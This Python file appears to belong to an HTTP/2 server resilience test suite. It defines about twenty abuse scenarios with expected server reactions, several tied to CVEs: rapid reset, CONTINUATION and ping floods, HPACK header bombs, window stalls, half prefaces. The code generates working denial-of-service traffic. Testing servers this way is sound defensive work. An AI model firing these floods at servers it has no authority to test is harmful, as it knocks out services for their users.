"""The abusive situations and what a server may do about each."""
from __future__ import annotations

from collections import Counter
from typing import Callable

import frames
import header_block as hpack
from abuse_reactions import (
    ANY_ANSWER, CUT_OFF, ENDURED, FLOOD_SECONDS, HELD, MARK, REFUSAL, WAIT, Abuse, Outcome, Result, flooded,
    request_in_pieces, settle,
)
from connection import Connection, End, Target
from frames import FrameType, Setting


def ids(count: int) -> range:
    return range(1, 2 * count, 2)


def on_each_stream(count: int, *after: Callable[[int], bytes]) -> Callable[[Target], bytes]:
    """A GET on each of `count` streams, each followed by these frames."""

    def make(target: Target) -> bytes:
        block = target.block()
        return b"".join(frames.headers(i, block) + b"".join(f(i) for f in after) for i in ids(count))

    return make


def continuation_flood(target: Target) -> bytes:
    part = hpack.literal("x-more", "y" * 100)
    return frames.headers(1, target.block(), end_headers=False) + frames.continuation(1, part, end=False) * 10_000


def empty_data_flood(target: Target) -> bytes:
    return frames.headers(1, target.block("POST"), end_stream=False) + frames.data(1, b"", end=False) * 20_000


def window_overflow(target: Target) -> bytes:
    most = frames.window_update(0, frames.MAX_WINDOW)
    return frames.window_update(0, 1) * 20_000 + most + most


def oversized_headers(connection: Connection) -> Result:
    """Five times what the server announced, in as few frames as possible."""
    connection.handshake()
    limit = connection.settings.get(Setting.MAX_HEADER_LIST_SIZE, 16_384)
    block = connection.target.block() + hpack.encode([(f"x-{i}", "v" * 1000) for i in range(limit // 200)])
    return request_in_pieces(connection, block)


def header_bomb(connection: Connection) -> Result:
    """A 4,000-byte field put into the table once and named 16,000 times: 64 MB from 20 kB."""
    connection.handshake()
    field = hpack.literal("x-bomb", "b" * 4000, hpack.INCREMENTAL)
    return request_in_pieces(connection, connection.target.block() + field + hpack.indexed(62) * 16_000)


def stalled_bodies(window: int) -> Callable[[Connection], Result]:
    """As many requests as allowed (at most 500), all with a window that never opens."""

    def run(connection: Connection) -> Result:
        connection.handshake((Setting.INITIAL_WINDOW_SIZE, window))
        count = min(connection.settings.get(Setting.MAX_CONCURRENT_STREAMS, 500), 500)
        sent = connection.flood(on_each_stream(count)(connection.target) + frames.ping(MARK), FLOOD_SECONDS)
        return settle(connection, sent)

    return run


def unread_bodies(connection: Connection) -> Result:
    """Large windows, as many requests as allowed, and nothing is read until answers have piled up."""
    connection.handshake((Setting.INITIAL_WINDOW_SIZE, frames.MAX_WINDOW))
    connection.send(frames.window_update(0, frames.MAX_WINDOW - frames.DEFAULT_WINDOW))
    count = min(connection.settings.get(Setting.MAX_CONCURRENT_STREAMS, 1000), 1000)
    sent = connection.flood(on_each_stream(count)(connection.target) + frames.ping(MARK), FLOOD_SECONDS)
    connection.wait_unread(32_768, WAIT)
    return settle(connection, sent)


def surplus_streams(connection: Connection) -> Result:
    """500 streams over the limit, all held open by a window of 0. Ideally only the surplus streams are refused."""
    connection.handshake((Setting.INITIAL_WINDOW_SIZE, 0))
    count = min(connection.settings.get(Setting.MAX_CONCURRENT_STREAMS, 2_000), 2_000) + 500
    sent = connection.flood(on_each_stream(count)(connection.target) + frames.ping(MARK), FLOOD_SECONDS)
    return settle(connection, sent)


def burst_before_ack(connection: Connection) -> Result:
    """2,000 requests in one go with the preface, SETTINGS never acknowledged."""
    count = 2_000
    raw_bytes = frames.PREFACE + frames.settings() + on_each_stream(count)(connection.target)
    connection.send(raw_bytes)
    ended: Counter[str] = Counter()
    while ended.total() < count:
        event = connection.next_event(WAIT)
        if isinstance(event, End):
            outcome = Outcome.SILENT if event is End.TIMEOUT else Outcome.CLOSED
            return outcome, f"{dict(ended)} of {count}"
        if event.kind == FrameType.GOAWAY and event.code:
            return Outcome.GOAWAY, f"{frames.code_name(event.code)} after {dict(ended)} of {count}"
        if event.kind == FrameType.RST_STREAM:
            ended[f"reset {frames.code_name(event.code)}"] += 1
        elif event.ends_stream:
            ended["answered"] += 1
    return (Outcome.ANSWERED if ended["answered"] else Outcome.REFUSED), str(dict(ended))


def half_prefaces(connection: Connection) -> Result:
    """100 connections that send half of the preface and then nothing."""
    others = [Connection(connection.target) for _ in range(100)]
    for other in others:
        other.send(frames.PREFACE[:12])
    connection.send(frames.PREFACE[:12])
    event = connection.next_event(WAIT)
    while isinstance(event, frames.Frame):
        event = connection.next_event(WAIT)
    for other in others:
        other.close()
    return (Outcome.SILENT if event is End.TIMEOUT else Outcome.CLOSED), "100 more like it"


def half_header_block(connection: Connection) -> Result:
    connection.handshake()
    connection.send(frames.headers(1, connection.target.block(), end_headers=False))
    return settle(connection)


def byte_by_byte(connection: Connection) -> Result:
    """A whole, correct exchange, one byte to a packet."""
    raw_bytes = frames.PREFACE + frames.settings() + frames.headers(1, connection.target.block())
    connection.send(*[raw_bytes[i : i + 1] for i in range(len(raw_bytes))])
    return settle(connection, until=FrameType.HEADERS)


ROWS: list[Abuse] = [
    Abuse("rapid-reset", "10,000 requests, each cancelled at once (CVE-2023-44487).", HELD,
          flooded(on_each_stream(10_000, frames.rst_stream))),
    Abuse("made-you-reset", "10,000 requests, each made to fail by a window that overflows (CVE-2025-8671).", HELD,
          flooded(on_each_stream(10_000, lambda i: frames.window_update(i, frames.MAX_WINDOW)))),
    Abuse("continuation-flood", "10,000 CONTINUATIONs of one block that never ends (CVE-2024-28182).", CUT_OFF,
          flooded(continuation_flood)),
    Abuse("ping-flood", "100,000 PINGs, no answer read (CVE-2019-9512).", HELD,
          flooded(lambda _: frames.ping(b"12345678") * 100_000)),
    Abuse("settings-flood", "100,000 SETTINGS, no ACK read (CVE-2019-9515).", HELD,
          flooded(lambda _: frames.settings() * 100_000)),
    Abuse("settings-entries", "SETTINGS frames with 2,730 entries each.", HELD,
          flooded(lambda _: frames.settings(*[(Setting.INITIAL_WINDOW_SIZE, 65_535)] * 2_730) * 200)),
    Abuse("window-0-stall", "Requests whose bodies never get a window (CVE-2019-9511).", ENDURED, stalled_bodies(0)),
    Abuse("window-1-stall", "Requests whose bodies get one byte each.", ENDURED, stalled_bodies(1)),
    Abuse("unread-bodies", "Requests with open windows, nothing read for a while (CVE-2019-9517).", HELD,
          unread_bodies),
    Abuse("surplus-streams", "500 streams over the limit after SETTINGS were acknowledged.", ENDURED, surplus_streams),
    Abuse("header-list", "Fields of five times MAX_HEADER_LIST_SIZE.", REFUSAL, oversized_headers),
    Abuse("header-bomb", "64 MB of fields out of 20 kB of HPACK (CVE-2016-6581).", REFUSAL, header_bomb),
    Abuse("burst-before-ack", "2,000 streams before SETTINGS are acknowledged.", ENDURED | ANY_ANSWER,
          burst_before_ack),
    Abuse("empty-data-flood", "20,000 empty DATA frames (CVE-2019-9518).", HELD | {Outcome.REFUSED},
          flooded(empty_data_flood)),
    Abuse("priority-flood", "100,000 PRIORITY frames for as many idle streams (CVE-2019-9513).", HELD,
          flooded(lambda _: b"".join(frames.priority(i, parent=i - 1) for i in range(3, 200_002, 2)))),
    Abuse("unknown-frame-flood", "100,000 extension frames.", HELD,
          flooded(lambda _: frames.frame(0x16, 0, 0, b"x" * 16) * 100_000)),
    Abuse("window-overflow", "20,000 WINDOW_UPDATEs, then two that overflow.", CUT_OFF, flooded(window_overflow)),
    Abuse("half-preface", "101 connections with half a preface each.", frozenset({Outcome.SILENT, Outcome.CLOSED}),
          half_prefaces),
    Abuse("half-header-block", "HEADERS without END_HEADERS, then nothing.", CUT_OFF | {Outcome.SILENT},
          half_header_block),
    Abuse("byte-by-byte", "A whole GET, one byte to a packet.", ANY_ANSWER, byte_by_byte),
]
